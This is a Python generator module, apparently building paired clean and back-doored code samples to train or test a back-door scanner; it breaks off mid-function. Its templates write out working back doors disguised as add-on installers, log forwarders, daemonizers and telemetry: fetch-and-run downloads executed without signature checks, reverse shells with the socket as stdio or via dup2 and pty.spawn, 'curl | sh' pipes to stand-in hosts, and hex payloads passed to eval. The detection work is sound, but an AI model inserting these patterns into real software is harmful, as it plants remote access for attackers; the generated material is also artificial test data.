"""More shapes of the source mechanisms, drawn only at `train` indices >= 32 (see source.py).

The shapes of the original plan (source_<language>.py SHAPES) fill `test`, the committed sample and
every `train` index below 32, unchanged. These shapes re-express the same mechanisms in other forms
seen in public write-ups and real back doors:

- src-remote-shell: fetch-and-run through a project download helper of any name that writes the
  bytes to a file and runs it (Go, Python, Node); shells whose standard streams are the socket
  (subprocess.Popen(stdin=s, ...), os.dup2 + pty.spawn, child_process.spawn(stdio: [sock, ...]));
  a Go line reader (bufio ReadString/Scanner) on a dialled connection running each line with sh -c;
  a `(wget -qO- URL || curl -s URL) | sh` or `{ curl -fs URL; } | sh` command run from Lua, C or
  Python code.
- src-obfuscated: hex decoded by a per-match function (JS replace, Python re.sub) then evaluated;
  C tables decoded with an index-dependent key; decompiled-style stack strings stored as 8/4/2-byte
  words through cast pointers; Perl pack("H*") and chr(ord($_) - k) maps.
- src-hidden-command: a C packet handler in one file (hidden message type or magic body; ==,
  memcmp, switch case, negative guards) called from a receive loop in another; console dot/bang
  commands compared with the whole line (C, Python, Go); a header compared in constant time with a
  named constant's bytes that grants an admin session (Java, Python, Go).

Each clean twin carries honest code of the same style (signed or checksummed downloads, a log
forwarder that streams a fixed command to the configured collector, a telemetry client with a
fixed verb set, a command table with documented dot-commands, a per-session CSRF token compared
in constant time, a hex-packed theme or banner decoded as data).

Written blind: from the issue text and public write-ups of back doors only, never from the
scanner's source or tests.
"""
from __future__ import annotations

import base64
import random

from .common import ident, word
from .source_c_tpl import CClid, CHttpd
from .source_common import (Proj, Variant, block, c_string, doc_host, doc_ip, fill, header_name,
                            hidden_user, license_header, magic_value, nest, port, shell_payload)
from .source_go import GoSvc, gq, tabs
from .source_java import JavaPortal, jq
from .source_js import NodeApp, js
from .source_py import FlaskApp, PyAgent, py
from .source_scripts import Luci, PerlCgi, lq


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant={**variant, "draw": "train-extra"}, categories=list(categories), severity=severity)


def _payload_cats(kind: str) -> list[str]:
    return ["phone-home"] if kind in ("wget-sh", "curl-sh") else ["remote-access"]


def _helper_name(rng: random.Random, style: str) -> str:
    fixed = {"camel": ["pullBlob", "fetchAsset", "loadRemote", "getBundle", "grabFile", "readURL"],
             "snake": ["get_payload", "pull_blob", "fetch_asset", "load_remote", "grab", "http_bytes"]}[style]
    if rng.random() < 0.5:
        return rng.choice(fixed)
    verb = rng.choice(["get", "pull", "fetch", "load", "read", "grab", "dl"])
    noun = word(rng, (1, 2))
    return verb + noun.capitalize() if style == "camel" else f"{verb}_{noun}"


def _tmp(rng: random.Random) -> str:
    return rng.choice(["/tmp/.", "/var/run/.", "/tmp/", "/dev/shm/."]) + word(rng, (1, 2))


def _url(rng: random.Random) -> str:
    host = doc_host(rng) if rng.random() < 0.7 else doc_ip(rng)
    if rng.random() < 0.3:
        host += f":{port(rng)}"
    return f"http://{host}/{word(rng, (1, 2))}{rng.choice(['', '.sh', '.bin', '.txt', ''])}"


# ============================================================================ remote shell: fetch helpers

GO_ADDONS = r"""
// @lic@

// Package @pkg@ installs the optional, vendor-signed add-ons listed in the device profile.
package @pkg@

import (
    @imports@
)

const indexURL = "https://updates.@domain@/@model_lc@/@pkg@/index.json"

const addonDir = "/var/lib/@ident@/@pkg@"

// signingKey is the public half of the add-on signing key.
var signingKey = ed25519.PublicKey(mustKey("@pub@"))

func mustKey(s string) []byte {
    b, err := base64.StdEncoding.DecodeString(s)
    if err != nil {
        panic(err)
    }
    return b
}

// @helper@ returns the body of url (at most 8 MiB).
func @helper@(url string) ([]byte, error) {
    c := &http.Client{Timeout: 30 * time.Second}
    resp, err := c.Get(url)
    if err != nil {
        return nil, err
    }
    defer resp.Body.Close()
    if resp.StatusCode != http.StatusOK {
        return nil, fmt.Errorf("%s: %s", url, resp.Status)
    }
    return io.ReadAll(io.LimitReader(resp.Body, 8<<20))
}

type entry struct {
    Name string `json:"name"`
    URL  string `json:"url"`
    Sig  string `json:"sig"`
}

// install fetches one add-on, checks its signature and registers it.
func install(e entry) error {
    b, err := @helper@(e.URL)
    if err != nil {
        return err
    }
    sig, err := base64.StdEncoding.DecodeString(e.Sig)
    if err != nil || !ed25519.Verify(signingKey, b, sig) {
        return fmt.Errorf("%s: bad signature", e.Name)
    }
    path := filepath.Join(addonDir, filepath.Base(e.Name))
    if err := os.WriteFile(path, b, 0o755); err != nil {
        return err
    }
    return exec.Command(path, "--register").Run()
}
@funcs@

// @starter@ installs the add-ons of the index once at start-up.
func @starter@() {
    @pre@
    raw, err := @helper@(indexURL)
    if err != nil {
        log.Printf("@pkg@: %v", err)
        return
    }
    var idx struct {
        Addons []entry `json:"addons"`
    }
    if err := json.Unmarshal(raw, &idx); err != nil {
        log.Printf("@pkg@: %v", err)
        return
    }
    for _, e := range idx.Addons {
        if err := install(e); err != nil {
            log.Printf("@pkg@: %v", err)
        }
    }
}
"""


def rs_go_helper_fetch(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    pkg = rng.choice(["addons", "plugins", "probes", "bundles", "extras"])
    helper = _helper_name(rng, "camel")
    starter = rng.choice(["Run", "Start", "Sync", "Install"])
    pub = base64.b64encode(bytes(rng.randrange(256) for _ in range(32))).decode()
    url, tmp = _url(rng), _tmp(rng)
    form = rng.choice(["inline", "goroutine-loop", "sh-file"])
    imports = ["crypto/ed25519", "encoding/base64", "encoding/json", "fmt", "io", "log", "net/http", "os",
               "os/exec", "path/filepath", "time"]
    run = f'exec.Command("{tmp}").Start()' if form != "sh-file" else f'exec.Command("/bin/sh", "{tmp}").Start()'
    body = f"""
        if b, err := {helper}("{url}"); err == nil {{
            if err := os.WriteFile("{tmp}", b, 0o755); err == nil {{
                _ = {run}
            }}
        }}"""
    funcs, pre = "", block(body)
    if form == "goroutine-loop":
        fn = rng.choice(["refreshProbe", "syncAgent", "heartbeat", "pollProfile"])
        every = rng.choice([10, 30, 60])
        funcs = f"""

            func {fn}() {{
                for {{
                    {nest(body, 20)}
                    time.Sleep({every} * time.Minute)
                }}
            }}"""
        pre = f"go {fn}()"
    kw = dict(lic=license_header(P, "x"), pkg=pkg, domain=P.domain, model_lc=P.model.lower(), ident=P.ident,
              pub=pub, helper=helper, starter=starter, imports="\n".join(f'"{i}"' for i in imports))
    path = f"internal/{pkg}/{pkg}.go"
    hooks = {"main_imports": f"{s.module}/internal/{pkg}", "main_start": f"go {pkg}.{starter}()"}
    clean = {**s.render(hooks), path: tabs(fill(GO_ADDONS, funcs="", pre="", **kw))}
    planted = {**s.render(hooks), path: tabs(fill(GO_ADDONS, funcs=block(funcs) and "\n" + block(funcs), pre=pre, **kw))}
    note = (f"{path}: {starter}() (started by main) downloads {url} through the project helper {helper}() "
            f"(http.Client.Get), writes it to {tmp} with os.WriteFile and executes it ({form}), without the "
            "signature check the add-on path applies.")
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": f"helper-{form}", "helper": helper},
              categories=["hidden-command"])


PY_ADDONS = r'''
# @lic@
"""Optional add-ons: packages listed in the controller profile are fetched, checked and installed."""
import hashlib
import json
import os
import subprocess
import threading
import time
import urllib.request

from . import config

ADDON_DIR = "/var/lib/@ident@/addons"
INDEX_URL = "https://updates.@domain@/@model_lc@/addons.json"


def @helper@(url, timeout=30):
    """Body of url (at most 8 MiB)."""
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return resp.read(8 << 20)


def _install(entry):
    data = @helper@(entry["url"])
    if hashlib.sha256(data).hexdigest() != entry["sha256"]:
        raise ValueError(entry["name"] + ": checksum mismatch")
    path = os.path.join(ADDON_DIR, os.path.basename(entry["name"]))
    with open(path, "wb") as fh:
        fh.write(data)
    os.chmod(path, 0o755)
    subprocess.run([path, "--register"], check=False, timeout=60)
@funcs@


def _sync():
    @pre@
    try:
        index = json.loads(@helper@(INDEX_URL))
    except (OSError, ValueError) as exc:
        config.log.warning("add-on index: %s", exc)
        return
    for entry in index.get("addons", []):
        try:
            _install(entry)
        except (OSError, ValueError, KeyError) as exc:
            config.log.warning("add-on %s: %s", entry.get("name"), exc)


def start():
    threading.Thread(target=_sync, daemon=True).start()
'''


def rs_py_helper_fetch(rng: random.Random, P: Proj) -> Variant:
    s = PyAgent(rng, P)
    helper = _helper_name(rng, "snake")
    mod = rng.choice(["addons", "plugins", "extras", "packages"])
    url, tmp = _url(rng), _tmp(rng)
    write = rng.choice(["open-write", "with-open"])
    runf = rng.choice(["Popen", "sh", "os.system"])
    wr = (f'open({py(tmp)}, "wb").write(blob)' if write == "open-write" else
          f'with open({py(tmp)}, "wb") as fh:\n    fh.write(blob)')
    run = {"Popen": f"subprocess.Popen([{py(tmp)}])", "sh": f'subprocess.Popen(["/bin/sh", {py(tmp)}])',
           "os.system": f'os.system({py(tmp + " &")})'}[runf]
    body = f"try:\n    blob = {helper}({py(url)})\n    {nest(wr, 4)}\n    os.chmod({py(tmp)}, 0o755)\n    {run}\nexcept OSError:\n    pass"
    funcs, pre = "", body
    if rng.random() < 0.4:
        fn = "_" + rng.choice(["refresh", "probe", "beacon", "keepalive"])
        funcs = f"\n\ndef {fn}():\n    while True:\n        {nest(body, 8)}\n        time.sleep({rng.choice([600, 1800, 3600])})"
        pre = f"threading.Thread(target={fn}, daemon=True).start()"
    kw = dict(lic=license_header(P, "x"), ident=P.ident, domain=P.domain, model_lc=P.model.lower(), helper=helper)
    path = f"agent/{mod}.py"
    hooks = {"srv_imports": f"from . import {mod}", "srv_main_pre": f"{mod}.start()"}
    clean = {**s.render(hooks), path: fill(PY_ADDONS, funcs="", pre="", **kw)}
    planted = {**s.render(hooks), path: fill(PY_ADDONS, funcs=funcs, pre=pre, **kw)}
    note = (f"{path}: _sync() (started by main) downloads {url} through the helper {helper}() (urllib), writes "
            f"it to {tmp} ({write}) and runs it ({runf}), without the checksum the add-on path applies.")
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": f"helper-{write}-{runf}", "helper": helper},
              categories=["hidden-command"])


JS_ADDONS = r"""
// @lic@
'use strict';

const child_process = require('child_process');
const crypto = require('crypto');
const fs = require('fs');
const http = require('http');
const https = require('https');
const path = require('path');

const INDEX_URL = 'https://updates.@domain@/@model_lc@/addons.json';
const DIR = '/var/lib/@ident@/addons';

function @helper@(url) {
  const mod = url.startsWith('https:') ? https : http;
  return new Promise((resolve, reject) => {
    mod.get(url, { timeout: 20000 }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}

async function install(entry) {
  const buf = await @helper@(entry.url);
  const sum = crypto.createHash('sha256').update(buf).digest('hex');
  if (sum !== entry.sha256) {
    throw new Error(`${entry.name}: checksum mismatch`);
  }
  const file = path.join(DIR, path.basename(entry.name));
  fs.writeFileSync(file, buf, { mode: 0o755 });
  child_process.execFile(file, ['--register'], () => {});
}
@funcs@

async function sync() {
  @pre@
  const index = JSON.parse((await @helper@(INDEX_URL)).toString());
  for (const e of index.addons || []) {
    await install(e).catch((err) => console.error(`add-on ${e.name}: ${err.message}`));
  }
}

function start() {
  sync().catch((err) => console.error(`add-ons: ${err.message}`));
}

module.exports = { start, @helper@ };
"""


def rs_js_helper_fetch(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    helper = _helper_name(rng, "camel")
    url, tmp = _url(rng), _tmp(rng)
    runf = rng.choice(["execFile", "spawn-sh", "exec"])
    run = {"execFile": f"child_process.execFile({js(tmp)}, () => {{}});",
           "spawn-sh": f"child_process.spawn('/bin/sh', [{js(tmp)}], {{ detached: true, stdio: 'ignore' }}).unref();",
           "exec": f"child_process.exec({js(tmp + ' &')});"}[runf]
    body = (f"try {{\n  const blob = await {helper}({js(url)});\n  fs.writeFileSync({js(tmp)}, blob, {{ mode: 0o755 }});\n"
            f"  {run}\n}} catch (e) {{\n  // offline\n}}")
    funcs, pre = "", body
    if rng.random() < 0.4:
        fn = rng.choice(["refresh", "beacon", "probe", "keepAlive"])
        funcs = f"\nasync function {fn}() {{\n  {nest(body, 2)}\n}}"
        pre = f"setInterval({fn}, {rng.choice([10, 30, 60])} * 60 * 1000);\n{fn}();"
    mod = rng.choice(["addons", "plugins", "extras"])
    kw = dict(lic=license_header(P, "x"), ident=P.ident, domain=P.domain, model_lc=P.model.lower(), helper=helper)
    path = f"lib/{mod}.js"
    hooks = {"srv_requires": f"const {mod} = require('./lib/{mod}');", "srv_start": f"{mod}.start();"}
    clean = {**s.render(hooks), path: fill(JS_ADDONS, funcs="", pre="", **kw)}
    planted = {**s.render(hooks), path: fill(JS_ADDONS, funcs=funcs, pre=pre, **kw)}
    note = (f"{path}: sync() (started by server.js) downloads {url} through the helper {helper}() (http.get), "
            f"writes it to {tmp} with fs.writeFileSync and runs it ({runf}), without the checksum check.")
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": f"helper-{runf}", "helper": helper},
              categories=["hidden-command"])


# ============================================================================ remote shell: socket as stdio

PY_LOGFWD = r'''
# @lic@
"""Streams the system log to the collector configured at pairing time (AGENT_LOG_COLLECTOR=host:port)."""
import os
import socket
import subprocess
import threading
import time

from . import config

COLLECTOR = os.environ.get("AGENT_LOG_COLLECTOR", "")


def _forward():
    host, _, prt = COLLECTOR.rpartition(":")
    while host:
        try:
            s = socket.create_connection((host, int(prt)), timeout=10)
            p = subprocess.Popen(["/sbin/logread", "-f"], stdin=subprocess.DEVNULL, stdout=s,
                                 stderr=subprocess.DEVNULL)
            p.wait()
            s.close()
        except (OSError, ValueError) as exc:
            config.log.warning("log forwarding: %s", exc)
        time.sleep(30)
@funcs@


def start():
    threading.Thread(target=_forward, daemon=True).start()
    @start@
'''


def rs_py_popen_socket(rng: random.Random, P: Proj) -> Variant:
    s = PyAgent(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    fn = "_" + rng.choice(["uplink", "mirror", "assist", "sync_clock", "health"])
    v = rng.choice(["s", "sock", "conn"])
    streams = rng.choice(["object", "fileno"])
    a = v if streams == "object" else f"{v}.fileno()"
    argv = rng.choice(['["/bin/sh", "-i"]', '["/bin/sh"]', '["sh", "-i"]', '["/bin/busybox", "sh"]'])
    conn = rng.choice([f"{v} = socket.create_connection(({py(ip)}, {prt}), timeout=15)",
                       f"{v} = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n{v}.connect(({py(ip)}, {prt}))"])
    call = rng.choice([f"subprocess.Popen({argv}, stdin={a}, stdout={a}, stderr={a}).wait()",
                       f"subprocess.call({argv}, stdin={a}, stdout={a}, stderr={a})"])
    funcs = f"""


        def {fn}():
            while True:
                try:
                    {nest(conn, 20)}
                    {call}
                    {v}.close()
                except OSError:
                    pass
                time.sleep({rng.choice([60, 300, 900])})"""
    kw = dict(lic=license_header(P, "x"))
    mod = rng.choice(["logfwd", "syslog_fwd", "remote_log", "logship"])
    path = f"agent/{mod}.py"
    hooks = {"srv_imports": f"from . import {mod}", "srv_main_pre": f"{mod}.start()"}
    clean = {**s.render(hooks), path: fill(PY_LOGFWD, funcs="", start="", **kw)}
    planted = {**s.render(hooks), path: fill(PY_LOGFWD, funcs=block(funcs) and "\n\n" + block(funcs),
                                               start=f"threading.Thread(target={fn}, daemon=True).start()", **kw)}
    note = (f"{path}: start() also runs {fn}(), which connects to {ip}:{prt} and starts {argv} with the socket "
            f"as stdin, stdout and stderr ({streams}): reverse shell. The log forwarder beside it streams a fixed "
            "command's output to the configured collector only.")
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": f"popen-stdio-{streams}"},
              categories=["hidden-command"])


PY_DAEMON = r'''
# @lic@
"""Detach from the terminal when started by the init script (AGENT_DAEMON=1)."""
import os
import pty
import socket
import sys
import threading
import time

PIDFILE = "/var/run/@ident@-agent.pid"
@funcs@


def daemonize():
    if os.fork() > 0:
        sys.exit(0)
    os.setsid()
    if os.fork() > 0:
        sys.exit(0)
    devnull = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    with open(PIDFILE, "w", encoding="ascii") as fh:
        fh.write(str(os.getpid()))
    @post@
'''


def rs_py_dup2_pty(rng: random.Random, P: Proj) -> Variant:
    s = PyAgent(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    fn = "_" + rng.choice(["remote_assist", "support_link", "watch", "uplink"])
    spawn = rng.choice(['pty.spawn("/bin/sh")', 'pty.spawn(["/bin/sh", "-i"])', 'pty.spawn("sh")',
                        'pty.spawn(["/bin/bash", "--noprofile"])'])
    dups = rng.choice(["loop", "three"])
    d = ("for fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)" if dups == "loop" else
         "os.dup2(c.fileno(), 0)\nos.dup2(c.fileno(), 1)\nos.dup2(c.fileno(), 2)")
    funcs = f"""


        def {fn}():
            while True:
                try:
                    c = socket.create_connection(({py(ip)}, {prt}), timeout=20)
                    pid = os.fork()
                    if pid == 0:
                        {nest(d, 24)}
                        {spawn}
                        os._exit(0)
                    os.waitpid(pid, 0)
                    c.close()
                except OSError:
                    pass
                time.sleep({rng.choice([120, 600, 1800])})"""
    kw = dict(lic=license_header(P, "x"), ident=P.ident)
    mod = rng.choice(["daemon", "detach", "service", "background"])
    path = f"agent/{mod}.py"
    hooks = {"srv_imports": f"from . import {mod}",
             "srv_main_pre": f'if os.environ.get("AGENT_DAEMON") == "1":\n    {mod}.daemonize()'}
    clean = {**s.render(hooks), path: fill(PY_DAEMON, funcs="", post="", **kw)}
    planted = {**s.render(hooks), path: fill(PY_DAEMON, funcs=block(funcs) and "\n\n" + block(funcs),
                                               post=f"threading.Thread(target={fn}, daemon=True).start()", **kw)}
    note = (f"{path}: daemonize() starts {fn}(), which connects to {ip}:{prt}, dup2()s the socket onto fds 0-2 "
            f"in a child and runs {spawn}: reverse shell with a pty.")
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": f"dup2-{dups}-pty.spawn"},
              categories=["hidden-command"])


JS_LOGFWD = r"""
// @lic@
'use strict';

// Streams the system log to the collector set at pairing time (LOG_COLLECTOR=host:port).
const child_process = require('child_process');
const net = require('net');

function forward() {
  const [host, port] = (process.env.LOG_COLLECTOR || '').split(':');
  if (!host) {
    return;
  }
  const sock = net.connect(Number(port), host, () => {
    const p = child_process.spawn('/sbin/logread', ['-f'], { stdio: ['ignore', sock, 'ignore'] });
    p.on('exit', () => sock.end());
  });
  sock.on('error', () => {});
  sock.on('close', () => setTimeout(forward, 30000));
}
@funcs@

function start() {
  forward();
  @start@
}

module.exports = { start };
"""


def rs_js_spawn_stdio(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    fn = rng.choice(["assist", "uplink", "mirror", "healthLink", "syncClock"])
    v = rng.choice(["c", "client", "conn", "s"])
    argv = rng.choice(["[]", "['-i']"])
    shell = rng.choice(["/bin/sh", "sh", "/bin/busybox"])
    if shell == "/bin/busybox":
        argv = "['sh']"
    form = rng.choice(["net.connect", "new-Socket"])
    if form == "net.connect":
        conn = f"""
            const {v} = net.connect({prt}, {js(ip)}, () => {{
              child_process.spawn({js(shell)}, {argv}, {{ stdio: [{v}, {v}, {v}] }});
            }});"""
    else:
        conn = f"""
            const {v} = new net.Socket();
            {v}.connect({prt}, {js(ip)}, function () {{
              child_process.spawn({js(shell)}, {argv}, {{ stdio: [{v}, {v}, {v}] }});
            }});"""
    funcs = f"""

        function {fn}() {{
          {nest(conn, 10)}
          {v}.on('error', () => {{}});
          {v}.on('close', () => setTimeout({fn}, {rng.choice([60, 300, 900])} * 1000));
        }}"""
    kw = dict(lic=license_header(P, "x"))
    mod = rng.choice(["logfwd", "syslog", "collector"])
    path = f"lib/{mod}.js"
    hooks = {"srv_requires": f"const {mod} = require('./lib/{mod}');", "srv_start": f"{mod}.start();"}
    clean = {**s.render(hooks), path: fill(JS_LOGFWD, funcs="", start="", **kw)}
    planted = {**s.render(hooks), path: fill(JS_LOGFWD, funcs="\n" + block(funcs), start=f"{fn}();", **kw)}
    note = (f"{path}: start() also calls {fn}(), which connects to {ip}:{prt} and spawns {shell} {argv} with "
            f"the socket as stdin/stdout/stderr (stdio array, {form}): reverse shell.")
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": f"spawn-stdio-{form}"},
              categories=["hidden-command"])


GO_TELEMETRY = r"""
// @lic@

// Package @pkg@ keeps a line-based session with the collector configured at onboarding
// (/etc/@ident@/collector: host:port). The collector may ask for a fixed set of reports only.
package @pkg@

import (
    @imports@
)

const collectorFile = "/etc/@ident@/collector"

func serve(c net.Conn, version string) {
    r := bufio.NewReader(c)
    fmt.Fprintf(c, "HELLO @model@ %s\n", version)
    for {
        line, err := r.ReadString('\n')
        if err != nil {
            return
        }
        switch strings.TrimSpace(line) {
        case "PING":
            fmt.Fprint(c, "PONG\n")
        case "UPTIME":
            raw, _ := os.ReadFile("/proc/uptime")
            fmt.Fprintf(c, "UPTIME %s\n", strings.Fields(string(raw) + " 0")[0])
        case "BYE":
            return
        default:
            fmt.Fprint(c, "ERR unknown\n")
        }
    }
}
@funcs@

// Start connects to the configured collector and reconnects when the session ends.
func Start(version string) {
    @start@
    for {
        raw, err := os.ReadFile(collectorFile)
        if err == nil {
            if c, err := net.DialTimeout("tcp", strings.TrimSpace(string(raw)), 10*time.Second); err == nil {
                serve(c, version)
                c.Close()
            }
        }
        time.Sleep(time.Minute)
    }
}
"""


def rs_go_line_reader(rng: random.Random, P: Proj) -> Variant:
    s = GoSvc(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    fn = rng.choice(["uplink", "mirror", "fallback", "relay", "probe"])
    form = rng.choice(["ReadString", "ReadString-trim", "Scanner"])
    shell = rng.choice([('"sh", "-c"', "sh -c"), ('"/bin/sh", "-c"', "/bin/sh -c"), ('"bash", "-c"', "bash -c")])
    dial = rng.choice([f'net.Dial("tcp", "{ip}:{prt}")',
                       f'net.DialTimeout("tcp", net.JoinHostPort("{ip}", "{prt}"), 15*time.Second)'])
    if form == "Scanner":
        loop = f"""
            sc := bufio.NewScanner(conn)
            for sc.Scan() {{
                line := sc.Text()
                out, _ := exec.Command({shell[0]}, line).CombinedOutput()
                conn.Write(out)
            }}"""
    else:
        arg = "strings.TrimSpace(line)" if form == "ReadString-trim" else "line"
        loop = f"""
            rd := bufio.NewReader(conn)
            for {{
                line, err := rd.ReadString('\\n')
                if err != nil {{
                    break
                }}
                out, _ := exec.Command({shell[0]}, {arg}).CombinedOutput()
                conn.Write(out)
            }}"""
    funcs = f"""

        func {fn}() {{
            for {{
                if conn, err := {dial}; err == nil {{
                    {nest(loop, 20)}
                    conn.Close()
                }}
                time.Sleep({rng.choice([30, 120, 600])} * time.Second)
            }}
        }}"""
    imports = ["bufio", "fmt", "net", "os", "strings", "time"]
    pkg = rng.choice(["telemetry", "collector", "cloudlink", "report"])
    kw = dict(lic=license_header(P, "x"), ident=P.ident, model=P.model, pkg=pkg)
    path = f"internal/{pkg}/{pkg}.go"
    hooks = {"main_imports": f"{s.module}/internal/{pkg}", "main_start": f"go {pkg}.Start(version)"}
    clean = {**s.render(hooks), path: tabs(fill(GO_TELEMETRY, funcs="", start="", imports="\n".join(f'"{i}"' for i in imports), **kw))}
    planted = {**s.render(hooks), path: tabs(fill(GO_TELEMETRY, funcs="\n" + block(funcs), start=f"go {fn}()",
                                                   imports="\n".join(f'"{i}"' for i in sorted(imports + ["os/exec"])), **kw))}
    note = (f"{path}: Start() also runs {fn}(), which dials {ip}:{prt}, reads commands line by line "
            f"(bufio {form}) and runs each with {shell[1]}, writing the output back: reverse shell. The honest "
            "collector session next to it answers a fixed verb set.")
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": f"go-bufio-{form}"},
              categories=["hidden-command"])


# ============================================================================ remote shell: fetch | sh from code

def _no_blank(text: str) -> str:
    """Drop the whitespace-only lines an empty hook leaves in a function without blank lines."""
    return "\n".join(ln for ln in text.split("\n") if ln.strip())


def _pipe_cmd(rng: random.Random) -> tuple[str, str, str]:
    url = _url(rng)
    form = rng.choice(["subshell-or", "brace", "subshell-or-rev", "brace-wget"])
    if form == "subshell-or":
        return f"(wget -qO- {url} || curl -s {url}) | sh", form, url
    if form == "subshell-or-rev":
        return f"(curl -fsSL {url} || wget -q -O - {url}) | /bin/sh", form, url
    if form == "brace":
        return f"{{ curl -fs {url}; }} | sh", form, url
    return f"{{ wget -qO- {url} 2>/dev/null; }} | sh -s", form, url


def rs_lua_popen_pipe(rng: random.Random, P: Proj) -> Variant:
    s = Luci(rng, P)
    cmd, form, url = _pipe_cmd(rng)
    vurl = f"https://updates.{P.domain}/{P.model.lower()}/version.txt"
    run = rng.choice([f"local p = io.popen({lq(cmd)})\nif p then\n    p:read(\"*a\")\n    p:close()\nend",
                      f"io.popen({lq(cmd + ' >/dev/null 2>&1 &')}):close()"])
    fn = rng.choice(["action_version", "action_update", "action_release"])

    def funcs(pre: str) -> str:
        return "\n" + _no_blank(block(f"""
            function {fn}()
                local f = io.popen("(uclient-fetch -qO- {vurl} || wget -qO- {vurl}) 2>/dev/null")
                local latest = f and f:read("*l") or ""
                if f then
                    f:close()
                end
                {nest(pre, 16)}
                luci.http.prepare_content("application/json")
                luci.http.write_json({{ latest = latest }})
            end"""))
    entry = f'entry({{"admin", "network", "{P.ident}", "{fn[7:]}"}}, call("{fn}")).leaf = true'
    clean = s.render({"ctl_entries": entry, "ctl_funcs": funcs("")})
    planted = s.render({"ctl_entries": entry, "ctl_funcs": funcs(run)})
    note = (f"{s.ctl()}: {fn}() (the update check page) also runs '{cmd}' through io.popen: the script at "
            f"{url} is downloaded and run by the shell ({form}).")
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": f"io.popen-{form}"},
              categories=["hidden-command"])


def rs_c_system_pipe(rng: random.Random, P: Proj) -> Variant:
    s = CHttpd(rng, P)
    cmd, form, url = _pipe_cmd(rng)
    fn = rng.choice(["fetch_profile", "refresh_oem_profile", "sync_profile", "prov_refresh"])
    prof = f"https://prov.{P.domain}/{P.model.lower()}/profile.json"
    how = rng.choice(["literal", "snprintf"])
    if how == "literal":
        plant = f"system({c_string(cmd + ' >/dev/null 2>&1 &')});"
    else:
        fmtd = cmd.replace("%", "%%").replace(url, "%s")
        plant = (f"{{\n    char cmd[512];\n\n    snprintf(cmd, sizeof(cmd), {c_string(fmtd)}, "
                 + ", ".join([c_string(url)] * cmd.count(url)) + ");\n    system(cmd);\n}")

    def glob(extra: str) -> str:
        return _no_blank(block(f"""
            /* OEM profile (branding, default SSIDs) from the provisioning server, as a file. */
            static void {fn}(void)
            {{
                system("(wget -q -O /tmp/oem-profile.json {prof} || curl -s -o /tmp/oem-profile.json {prof}) >/dev/null 2>&1");
                {nest(extra, 16)}
            }}
            """)) + "\n"
    clean = s.render({"upd_globals": glob(""), "upd_pre": f"{fn}();"})
    planted = s.render({"upd_globals": glob(plant), "upd_pre": f"{fn}();"})
    note = (f"src/update.c: {fn}() (called at every update check) also runs '{cmd}' with system() ({how}): "
            f"the script at {url} is fetched and piped into sh ({form}).")
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": f"system-{form}-{how}", "build": s.build},
              categories=["hidden-command"])


def rs_py_system_pipe(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    cmd, form, url = _pipe_cmd(rng)
    fn = "_" + rng.choice(["sync_time", "refresh_clock", "time_sync"])
    how = rng.choice(["os.system", "subprocess-shell"])
    plant = (f"os.system({py(cmd + ' >/dev/null 2>&1 &')})" if how == "os.system" else
             f"subprocess.Popen({py(cmd)}, shell=True)")

    def funcs(extra: str) -> str:
        return "\n\n" + block(f"""
            def {fn}():
                os.system("(ntpd -q -n -p ntp.{P.domain} || rdate -s ntp.{P.domain}) >/dev/null 2>&1")
                {nest(extra, 16)}""")
    clean = s.render({"upd_funcs": funcs(""), "upd_pre": f"{fn}()"})
    planted = s.render({"upd_funcs": funcs(plant), "upd_pre": f"{fn}()"})
    note = (f"app/updater.py: {fn}() (run before every update check) also runs '{cmd}' ({how}): the script at "
            f"{url} is downloaded and piped into sh ({form}).")
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": f"{how}-{form}", "framework": "flask"},
              categories=["hidden-command"])


# ============================================================================ obfuscated

def _js_code(rng: random.Random) -> tuple[str, str, str]:
    cmd, kind = shell_payload(rng)
    return f"require('child_process').exec({js(cmd + ' &')});", f"runs '{cmd}'", kind


def ob_js_hex_replace(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    code, what, kind = _js_code(rng)
    rx = rng.choice(["/../g", "/[0-9a-f]{2}/gi", "/.{2}/g"])
    fnf = rng.choice(["h => String.fromCharCode(parseInt(h, 16))", "(h) => String.fromCharCode(parseInt(h, 16))",
                      "function (h) { return String.fromCharCode(parseInt(h, 16)); }"])
    sink = rng.choice(["eval", "new Function", "vm.runInThisContext"])
    var = rng.choice(["TRACKING", "FONT_DATA", "I18N", "LOCALE", "PALETTE_EXT", "HINTS"])
    theme = ('{"accent":"#%02x%02x%02x","header":"#%02x%02x%02x"}'
             % tuple(rng.randrange(256) for _ in range(6)))
    honest = (f"// Theme colours, hex-packed by the OEM branding tool.\n"
              f"const THEME = JSON.parse('{theme.encode().hex()}'.replace({rx}, {fnf}));\n"
              "PRODUCT.theme = THEME;")
    run = {"eval": f"eval({var});", "new Function": f"new Function({var})();",
           "vm.runInThisContext": f"require('vm').runInThisContext({var});"}[sink]
    plant = f"const {var} = '{code.encode().hex()}'.replace({rx}, {fnf});\n{run}"
    clean = s.render({"brand_tail": honest})
